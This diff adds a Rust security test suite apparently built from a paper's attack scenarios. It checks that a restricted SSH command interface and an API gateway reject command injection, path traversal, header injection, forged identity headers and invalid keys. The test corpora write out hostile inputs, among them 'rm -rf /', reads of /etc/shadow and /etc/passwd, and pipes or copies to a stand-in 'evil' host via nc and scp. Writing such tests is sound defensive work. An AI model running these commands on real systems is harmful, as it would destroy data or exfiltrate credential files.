@@ -1,0 +1,180 @@
+//! Security test suite (§6.1): the paper's attack scenarios, as assertions.
+
+use std::time::Duration;
+
+use chat_ai::cloud_interface::{parse_command, parse_op, Violation, EXIT_VIOLATION};
+use chat_ai::config::StackConfig;
+use chat_ai::coordinator::{Stack, FUNCTIONAL_KEY};
+use chat_ai::ssh::SshClient;
+use chat_ai::util::http::{Client, Request};
+use chat_ai::util::propcheck;
+
+fn stack() -> Stack {
+    let mut config = StackConfig::default();
+    config.keepalive = Duration::from_millis(100);
+    let s = Stack::launch(config).expect("launch");
+    assert!(s.wait_ready(Duration::from_secs(180)));
+    s
+}
+
+#[test]
+fn stolen_key_cannot_get_a_shell() {
+    let stack = stack();
+    let client = SshClient::connect(stack.sshd.addr(), FUNCTIONAL_KEY).unwrap();
+    for cmd in ["/bin/bash", "sh -c 'id'", "scp /etc/shadow evil:", "python3"] {
+        let out = client.exec(cmd, b"").unwrap();
+        assert_eq!(
+            out.exit_code, EXIT_VIOLATION,
+            "command {cmd:?} must hit the ForceCommand script and be rejected"
+        );
+    }
+    stack.shutdown();
+}
+
+#[test]
+fn unknown_keys_are_refused() {
+    let stack = stack();
+    for key in ["SHA256:attacker", "", "SHA256:chat-ai-functional-account2"] {
+        assert!(SshClient::connect(stack.sshd.addr(), key).is_err(), "{key:?}");
+    }
+    assert!(stack.sshd.stats().2 >= 3, "auth failures audited");
+    stack.shutdown();
+}
+
+#[test]
+fn injection_corpus_rejected() {
+    // Pure-parser corpus (no stack needed): every classic injection shape.
+    let corpus: &[&str] = &[
+        "saia ping; rm -rf /",
+        "saia ping && curl evil",
+        "saia probe $(cat /etc/passwd)",
+        "saia probe `reboot`",
+        "saia probe llama | nc evil 1337",
+        "saia request < /etc/shadow",
+        "saia request > /tmp/x",
+        "saia eval 1+1",
+        "saia request\nsaia ping",
+        "saia probe ../../../root",
+        "saia probe a'b",
+        "saia probe a\"b",
+        "saia probe a\\b",
+        "saia probe a*",
+        "saia probe a?",
+        "saia probe a{1,2}",
+        "saia probe a~",
+        "saia probe a#b",
+        "saia probe a!b",
+    ];
+    for attack in corpus {
+        assert!(parse_command(attack).is_err(), "accepted: {attack:?}");
+    }
+}
+
+#[test]
+fn envelope_attacks_rejected() {
+    let cases: &[&[u8]] = &[
+        br#"{"service":"llama","method":"POST","path":"/etc/passwd","body":""}"#,
+        br#"{"service":"llama","method":"TRACE","path":"/v1/x","body":""}"#,
+        br#"{"service":"LL AMA","method":"POST","path":"/v1/x","body":""}"#,
+        br#"{"service":"llama","method":"POST","path":"/v1/../../x","body":""}"#,
+        br#"{"service":"llama","method":"POST","path":"/v1/x","headers":{"a":"b\r\nc: d"},"body":""}"#,
+        br#"{"service":"llama","method":"POST","path":"/v1/x;id","body":""}"#,
+        b"\xff\xfe not utf8",
+    ];
+    for stdin in cases {
+        assert!(
+            parse_op("saia request", stdin).is_err(),
+            "accepted envelope: {:?}",
+            String::from_utf8_lossy(stdin)
+        );
+    }
+}
+
+#[test]
+fn property_fuzzed_commands_never_escape_allowlist() {
+    propcheck::quick("fuzzed command strings", |rng| {
+        let s = propcheck::nasty_string(rng, 30);
+        match parse_command(&s) {
+            Ok(verb) => {
+                // Anything accepted must be exactly a known verb shape.
+                let repr = format!("{verb:?}");
+                assert!(
+                    repr.starts_with("Ping")
+                        || repr.starts_with("Probe")
+                        || repr.starts_with("Request"),
+                    "unexpected verb from {s:?}"
+                );
+            }
+            Err(_) => {}
+        }
+    });
+    propcheck::quick("fuzzed envelopes", |rng| {
+        let garbage = propcheck::nasty_string(rng, 200);
+        // Either clean rejection or a fully validated request.
+        match parse_op("saia request", garbage.as_bytes()) {
+            Ok(chat_ai::cloud_interface::Op::Request(req)) => {
+                assert!(chat_ai::cloud_interface::valid_service_name(&req.service));
+                assert!(req.path.starts_with("/v1/") || req.path.starts_with("/health"));
+            }
+            _ => {}
+        }
+    });
+}
+
+#[test]
+fn gateway_rejects_forged_identity_and_bad_keys() {
+    let stack = stack();
+    let svc = stack.config.services[0].name.clone();
+    let mut client = Client::new(&stack.gateway_url());
+    // forged SSO header without the proxy secret
+    let resp = client
+        .send(
+            &Request::new("POST", &format!("/{svc}/v1/chat/completions"))
+                .with_header("x-user-email", "president@uni.de")
+                .with_body(b"{}".to_vec()),
+        )
+        .unwrap();
+    assert_eq!(resp.status, 401);
+    // forged header WITH a wrong secret
+    let resp = client
+        .send(
+            &Request::new("POST", &format!("/{svc}/v1/chat/completions"))
+                .with_header("x-user-email", "president@uni.de")
+                .with_header("x-proxy-secret", "guess")
+                .with_body(b"{}".to_vec()),
+        )
+        .unwrap();
+    assert_eq!(resp.status, 401);
+    // invalid API keys
+    for key in ["", "sk-invalid", "Bearer"] {
+        let resp = client
+            .send(
+                &Request::new("POST", &format!("/{svc}/v1/chat/completions"))
+                    .with_header("x-api-key", key)
+                    .with_body(b"{}".to_vec()),
+            )
+            .unwrap();
+        assert_eq!(resp.status, 401, "key {key:?}");
+    }
+    assert!(stack.gateway.unauthorized.load(std::sync::atomic::Ordering::Relaxed) >= 5);
+    stack.shutdown();
+}
+
+#[test]
+fn violations_are_audited_through_live_stack() {
+    let stack = stack();
+    let client = SshClient::connect(stack.sshd.addr(), FUNCTIONAL_KEY).unwrap();
+    let before = stack
+        .cloud_interface
+        .violations
+        .load(std::sync::atomic::Ordering::Relaxed);
+    for _ in 0..3 {
+        let _ = client.exec("saia ping; evil", b"").unwrap();
+    }
+    let after = stack
+        .cloud_interface
+        .violations
+        .load(std::sync::atomic::Ordering::Relaxed);
+    assert_eq!(after - before, 3);
+    stack.shutdown();
+}
